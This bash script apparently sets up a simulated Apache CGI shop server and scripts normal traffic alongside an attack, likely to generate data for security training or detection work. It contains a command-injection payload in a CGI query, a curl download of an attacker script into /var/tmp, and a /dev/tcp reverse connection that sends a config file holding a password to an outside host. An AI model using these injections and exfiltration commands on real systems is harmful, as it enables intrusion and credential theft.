# shellcheck shell=bash disable=SC2034
HOST=www05
FORMAT=RAW
RULES=stig
UNSET=1

ask() { outside curl -s -o /dev/null --interface "$1" "http://10.88.0.10/cgi-bin/avail?$2"; }

administer() {
    outside ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR -b 10.88.0.55 -i "$work/ops.key" ops@10.88.0.10 "$1"
}

# visits SECONDS: visitors and the monitor, about three in a second.
visits() {
    local end=$((SECONDS + $1))
    while ((SECONDS < end)); do
        ask 192.0.2.7 chair
        ask 10.88.0.55 table
        ask 192.0.2.41 lamp
        sleep 0.7
    done
}

earlier() {
    fresh /var/log/apache2 /var/www /usr/lib/cgi-bin /var/tmp
    chmod 1777 /var/tmp
    mkdir -p /srv/shop /run/sshd /run/apache2 /run/lock
    printf 'item,stock\nchair,4\ntable,1\nlamp,0\n' >/srv/shop/stock.csv
    echo "password = orange" >/srv/shop/config.ini
    install -m 755 "$folder/avail" /usr/lib/cgi-bin/avail
    a2dismod -q -f mpm_event
    a2enmod -q mpm_prefork cgi
    echo "ServerName www05" >>/etc/apache2/apache2.conf
    account ops 4051
    ssh-keygen -q -t ed25519 -N "" -f /srv/host.key
    ssh-keygen -q -t ed25519 -N "" -f "$work/ops.key"
    install -m 600 -o ops "$work/ops.key.pub" /srv/home/ops/.ssh/authorized_keys
    chown ops /srv/shop/stock.csv
    printf '%s\n' "HostKey /srv/host.key" "PidFile none" "UsePAM yes" "PasswordAuthentication no" "PrintMotd no" >/srv/sshd_config
    mkdir -p "$work/theirs"
    printf '%s\n' '#!/bin/bash' 'exec 3<>/dev/tcp/203.0.113.9/8443' 'cat /srv/shop/config.ini >&3' >"$work/theirs/x"
    theirs
    inside setsid /usr/sbin/apachectl -D FOREGROUND >/dev/null 2>&1 &
    inside /usr/sbin/sshd -D -f /srv/sshd_config >/dev/null 2>&1 &
    sleep 3
}

scenario() {
    visits 5
    administer "ls -l /srv/shop"
    visits 25 &
    local busy=$!
    sleep 4
    outside /usr/bin/python3 -S -B "$folder/keeper.py" 198.51.100.23 "/cgi-bin/avail?$(quoted "x' /dev/null; id; echo '")" \
        "/cgi-bin/avail?$(quoted "x' /dev/null; curl -s -o /var/tmp/.x http://203.0.113.9:443/x; echo '")"
    administer "chmod 640 /srv/shop/stock.csv && chmod 644 /srv/shop/stock.csv"
    ask 198.51.100.23 "$(quoted "x' /dev/null; chmod 755 /var/tmp/.x; /var/tmp/.x; echo '")"
    wait "$busy"
    administer "uptime"
    visits 5
}
